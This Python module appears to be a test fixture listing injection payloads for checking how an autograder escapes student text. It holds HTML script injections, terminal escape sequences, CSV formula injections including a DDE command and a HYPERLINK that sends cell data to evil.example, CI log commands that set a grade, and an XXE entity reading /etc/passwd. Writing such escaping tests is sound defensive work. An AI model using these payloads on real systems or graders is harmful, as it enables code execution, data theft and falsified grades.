"""What a student may write to be shown elsewhere, and what it would do there.

In: nothing. Out: ``PAYLOADS``, each with the kinds of output in which it works when nobody escapes
it. The tests show that it does before they show that it does not.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

# Kinds of output: a page's text and its attributes, a table, a terminal, a CI job's log, XML, JSON,
# and Markdown.
HTML, ATTRIBUTE, CSV, TERMINAL, LOG, XML, JSON, MARKDOWN = (
    "html",
    "attribute",
    "csv",
    "terminal",
    "log",
    "xml",
    "json",
    "markdown",
)
_SCREENS = (TERMINAL, HTML, CSV, XML, MARKDOWN)


@dataclass(frozen=True)
class Payload:
    """A text, and the kinds of output in which it does harm as it is."""

    text: str
    harms: tuple[str, ...]


def twin(text: str) -> str:
    """Harmless text with the same lines and the same code in backticks: what is drawn of it has the
    same structure, unless the payload adds some. Short ones have the same twin; of a long one the
    length counts, for it may be cut."""
    words = re.sub(r"[^`\n\r]", "x", text)
    return words if len(words) > 100 or "`" in words else re.sub("x+", "xxxx", words)


_MARKDOWN = (
    "x\n\n# head\n\n[a](http://evil.example) ![b](http://evil.example/b.png) **c** ~~d~~ `e`\n\n"
    "| a | b |\n|---|---|\n| c | d |\n\n```mermaid\ngraph\n```\n\n- item\n\n> quote\n\n"
    "<http://evil.example> @admin #1 $x$ &lt;b&gt; </pre><b>bold</b>\n\n---\n"
)

PAYLOADS = {
    # pages
    "script": Payload("<script>alert(1)</script>", (HTML, MARKDOWN, XML)),
    "handler": Payload("<img src=x onerror=alert(1)>", (HTML, MARKDOWN, XML)),
    "svg": Payload("<svg/onload=alert(1)>", (HTML, MARKDOWN, XML)),
    "end of style": Payload("</style><script>alert(1)</script>", (HTML, MARKDOWN, XML)),
    "end of script": Payload("</script><script>alert(1)</script>", (HTML, MARKDOWN, XML)),
    "end of all": Payload(
        "</title></textarea></code></pre></summary></details><iframe srcdoc=x>",
        (HTML, MARKDOWN, XML),
    ),
    "comment": Payload("--><script>alert(1)</script><!--", (HTML, MARKDOWN, XML)),
    "double quote": Payload('" autofocus onfocus="alert(1)" x="', (ATTRIBUTE, JSON)),
    "single quote": Payload("' onmouseover='alert(1)", ()),
    "tag in attribute": Payload('"><script>alert(1)</script>', (HTML, ATTRIBUTE, MARKDOWN, XML)),
    "meta": Payload("<meta http-equiv=refresh content=0;url=//evil.example>", (HTML, MARKDOWN)),
    "base": Payload("<base href=//evil.example>", (HTML, MARKDOWN, XML)),
    "address": Payload("javascript:alert(1)//", ()),
    "entity": Payload("&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;", ()),
    "template": Payload("{{ 7*7 }}{% for x in y %}{{ self }}", ()),
    # terminals
    "colour": Payload("\x1b[31;1mred\x1b[0m\x1b[2J\x1b[1;1H", _SCREENS),
    "title of the window": Payload("\x1b]0;owned\x07\x1b]52;c;ZXZpbA==\x07x", _SCREENS),
    "link": Payload("\x1b]8;;https://evil.example\x1b\\text\x1b]8;;\x1b\\", _SCREENS),
    "half sequences": Payload("\x1b\x1b[m[31m \x1b[ \x1b]0; \x1bP1$r\x1b", _SCREENS),
    "eight-bit controls": Payload("\x9b31mred\x9b0m \x9d0;owned\x9c \x85", (TERMINAL, HTML, CSV)),
    "control characters": Payload("".join(map(chr, (*range(9), *range(11, 32), 127))), _SCREENS),
    "overprinting": Payload("wrong\rright \b\b\b\b\b\b", _SCREENS),
    "bidi override": Payload("a\u202egnp.exe\u202c \u2066b\u2069 \u200f\u061c", (TERMINAL, HTML)),
    "invisible": Payload("a\u200bb\u2060c\ufeffd\u00ade\U000e0041f", (TERMINAL, HTML, JSON)),
    "blank letters": Payload("\u3164\u115f\uffa0", (TERMINAL, HTML, JSON)),
    "line separators": Payload("a\u2028b\u2029c", (TERMINAL, HTML, JSON)),
    "stacked marks": Payload("a" + "\u0301" * 500, ()),
    "markup of rich": Payload("[bold red]x[/] [link=https://evil.example]y[/link] [/]", ()),
    "emoji of rich": Payload(":warning: :smile:", ()),
    # tables
    "formula": Payload("=cmd|' /C calc'!A0", (CSV,)),
    "plus": Payload("+1+1", (CSV,)),
    "minus": Payload("-1+1", (CSV,)),
    "at": Payload("@SUM(1+1)", (CSV,)),
    "full width": Payload("＝1+1", (CSV,)),
    "formula after a tab": Payload("\t=1+1", (CSV,)),
    "formula after a line": Payload("a\r\n=1+1\n=1+1", (CSV,)),
    "formula after a quote": Payload('a"=1+1', (CSV,)),
    "formula after quote and comma": Payload('",=1+1,"', (CSV,)),
    "formula after a semicolon": Payload("a;=1+1;b", (CSV,)),
    "formula after blanks": Payload("  =1+1", (CSV,)),
    "formula behind colour": Payload("\x1b[m=1+1", (CSV,)),
    "address of a formula": Payload('=HYPERLINK("http://evil.example?"&A1,"x")', (CSV,)),
    # CI logs
    "annotation": Payload("\n::error file=a.py,line=1::pwned\n", (LOG,)),
    "output": Payload("\n::set-output name=grade::10\n", (LOG,)),
    "mask": Payload("\n  ::add-mask::points\n", (LOG,)),
    "after a return": Payload("x\r::add-mask::points\r", (LOG,)),
    "in the middle": Payload("text ##[add-mask]points", (LOG,)),
    "three signs": Payload("text ###[group]points", (LOG,)),
    "command of Azure": Payload("##vso[task.setvariable variable=grade]10", (LOG,)),
    "behind colour": Payload("\n:\x1b[m:add-mask::p\n#\x1b[m#[add-mask]p", ()),
    "capital": Payload("\n::ADD-MASK::points\n##[Add-Mask]points", (LOG,)),
    "resume": Payload("\n::stop-commands::abc\n::abc::\n::error::pwned", (LOG,)),
    "encoded": Payload("%0A::error::pwned %250A%3A%2C", ()),
    "properties": Payload("x,title=y::add-mask::z", ()),
    "long way to the edge": Payload(
        " ".join(f"{'w' * width} ::error::pwned" for width in range(1, 60)), ()
    ),
    # XML and JSON
    "end of data": Payload("]]></failure></testcase><testcase name='x'/>", (XML,)),
    "document type": Payload('<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;', (XML,)),
    "forbidden references": Payload("&#0;&#x1;&lol;", (XML,)),
    "end of a string": Payload('","score":10,"x":"', (JSON,)),
    "backslash": Payload('\\", \\u0022 \\', (JSON,)),
    "lone surrogates": Payload("\ud800x\udfff\udc80", _SCREENS),
    "noncharacters": Payload("\ufffe\uffff", (XML,)),
    # Markdown
    "markdown": Payload(_MARKDOWN, (MARKDOWN,)),
    "fence": Payload("```\n\n# head\n\n<b>x</b>\n", (MARKDOWN,)),
    # much of it
    "a megabyte": Payload("A" * 1_000_000, ()),
    "a megabyte of tags": Payload("<b>" * 333_334, (HTML, MARKDOWN, XML)),
    "a megabyte of controls": Payload("\x1b[\u202e\x00" * 250_000, _SCREENS),
    "a megabyte of commands": Payload("\n::error::x" * 90_000, (LOG,)),
}
